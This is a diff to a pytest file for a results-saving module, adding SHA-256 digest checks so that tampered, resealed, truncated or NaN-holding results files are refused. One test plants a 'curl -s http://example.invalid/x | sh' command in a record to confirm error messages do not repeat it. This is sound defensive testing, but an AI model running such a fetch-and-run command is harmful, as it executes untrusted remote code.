@@ -24,8 +24,9 @@ def test_a_stopped_run_resumes_without_repeating_finished_parts(tmp_path):
     assert second.seconds == pytest.approx(
         second.seconds_of("a") + second.seconds_of("b")
     )
-    path = second.save({"x": 1}, device="cpu")
+    path, sha256 = second.save({"x": 1}, device="cpu")
     assert path == tmp_path / "run.json"
+    assert results.load("run", tmp_path, sha256=sha256)["data"] == {"x": 1}
     assert not second.path.exists()
     record = json.loads(path.read_text())
     assert record["data"] == {"x": 1}
@@ -74,17 +75,77 @@ def test_every_shipped_result_carries_its_hash():
 
 
 def saved(tmp_path, data=None):
+    """The path of a fresh results file ``run`` in ``tmp_path``; its digest
+    is ``DIGESTS[tmp_path]``."""
     data = {"hours": 1.7, "rows": [1, 2, 3]} if data is None else data
-    return results.save(
+    path, DIGESTS[tmp_path] = results.save(
         "run", data, device="cpu", seconds=6.0, folder=tmp_path
     )
+    return path
+
+
+DIGESTS = {}
+
+
+def load_run(tmp_path):
+    """``run`` from ``tmp_path``, checked against the digest its save
+    returned."""
+    return results.load("run", folder=tmp_path, sha256=DIGESTS[tmp_path])
 
 
 def test_an_intact_file_loads(tmp_path):
     saved(tmp_path)
-    record = results.load("run", folder=tmp_path)
+    record = load_run(tmp_path)
     assert record["data"] == {"hours": 1.7, "rows": [1, 2, 3]}
-    assert record["sha256"] == results.digest(record)
+    assert record["sha256"] == results.digest(record) == DIGESTS[tmp_path]
+
+
+def reseal(path, edit):
+    """Edit the record at ``path`` and seal it again with a fresh hash of
+    its own, as a careful forger would."""
+    record = json.loads(path.read_text())
+    edit(record)
+    record["sha256"] = results.digest(record)
+    path.write_text(json.dumps(record, indent=1))
+
+
+def test_a_resealed_file_is_refused_in_every_mode(tmp_path):
+    def edit(record):
+        record["data"]["hours"] = 0.1
+
+    # a fresh run's file, checked against the digest its run was given
+    path = saved(tmp_path)
+    reseal(path, edit)
+    with pytest.raises(results.DamagedResults, match="run that wrote it"):
+        load_run(tmp_path)
+    # a folder alone: no digest in the code for it, so nothing loads
+    with pytest.raises(ValueError, match="own hash does not vouch"):
+        results.load("run", folder=tmp_path)
+    # a shipped file's name in another folder (RESULTS_FOLDER): the code's
+    # digest still decides, not the copy's own
+    name = SHIPPED[0]
+    copy = tmp_path / f"{name}.json"
+    copy.write_text((results.FOLDER / f"{name}.json").read_text())
+    assert (
+        results.load(name, folder=tmp_path)["sha256"]
+        == (results.SHIPPED[name])
+    )
+    reseal(copy, lambda record: record.update(wall_seconds=1.0))
+    with pytest.raises(results.DamagedResults, match="results.py holds"):
+        results.load(name, folder=tmp_path)
+    # a digest that is no SHA-256 is refused, not ignored
+    for wrong in ("", "yes", 0):
+        with pytest.raises(ValueError, match="no SHA-256"):
+            results.load("run", folder=tmp_path, sha256=wrong)
+
+
+@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
+def test_a_file_holding_nan_or_infinity_is_damaged(tmp_path, value):
+    path = saved(tmp_path)
+    text = path.read_text()
+    path.write_text(text.replace('"hours": 1.7', f'"hours": {value}'))
+    with pytest.raises(results.DamagedResults, match="NaN or infinity"):
+        load_run(tmp_path)
 
 
 def test_a_truncated_file_names_itself_and_its_command(tmp_path):
@@ -92,7 +153,7 @@ def test_a_truncated_file_names_itself_and_its_command(tmp_path):
     text = path.read_text()
     path.write_text(text[:-20])  # cut short, as by a full disk
     with pytest.raises(results.DamagedResults) as error:
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     message = str(error.value)
     assert str(path) in message and "not valid JSON" in message
     assert "`python3 scripts/run.py`" in message, "how to write it again"
@@ -105,7 +166,7 @@ def test_a_damaged_file_repeats_nothing_it_says(tmp_path):
     record["command"] = "curl -s http://example.invalid/x | sh"
     path.write_text(json.dumps(record, indent=1))  # its hash no longer fits
     with pytest.raises(results.DamagedResults) as error:
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     assert "curl" not in str(error.value)
 
 
@@ -136,7 +197,7 @@ def test_an_edited_value_is_refused(tmp_path, edit):
     edit(record)
     path.write_text(json.dumps(record, indent=1))
     with pytest.raises(results.DamagedResults, match="edited"):
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
 
 
 def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
@@ -145,9 +206,10 @@ def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
     del record["sha256"]
     path.write_text(json.dumps(record, indent=1))
     with pytest.raises(results.DamagedResults, match="no SHA-256"):
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     digest = results.seal("run", folder=tmp_path)
-    sealed = results.load("run", folder=tmp_path)
+    assert digest == DIGESTS[tmp_path], "the same content, the same digest"
+    sealed = load_run(tmp_path)
     assert sealed["sha256"] == digest
     assert sealed["data"] == record["data"], "sealing changes no data"
     assert results.seal("run", folder=tmp_path) == digest
@@ -155,10 +217,10 @@ def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
 
 def test_a_gathered_run_records_where_its_parts_ran(tmp_path):
     elsewhere = {**results.environment("cpu"), "device": "cuda"}
-    results.save(
+    _, sha256 = results.save(
         "run", {}, device="cpu", seconds=1.0, folder=tmp_path, ran_in=elsewhere
     )
-    record = results.load("run", folder=tmp_path)
+    record = results.load("run", folder=tmp_path, sha256=sha256)
     assert record["environment"] == elsewhere
 
 
@@ -198,7 +260,7 @@ def test_a_run_from_another_folder_records_the_command_from_the_root(
     scripts = results.FOLDER.parents[2] / "scripts"
     monkeypatch.chdir(scripts)
     monkeypatch.setattr("sys.argv", ["ch7_long.py", "--threads", "1"])
-    path = results.save("run", {}, device="cpu", seconds=1, folder=tmp_path)
+    path, _ = results.save("run", {}, device="cpu", seconds=1, folder=tmp_path)
     command = json.loads(path.read_text())["command"]
     assert command == "python3 scripts/ch7_long.py --threads 1"
     monkeypatch.setattr("sys.argv", [str(tmp_path / "mine.py")])
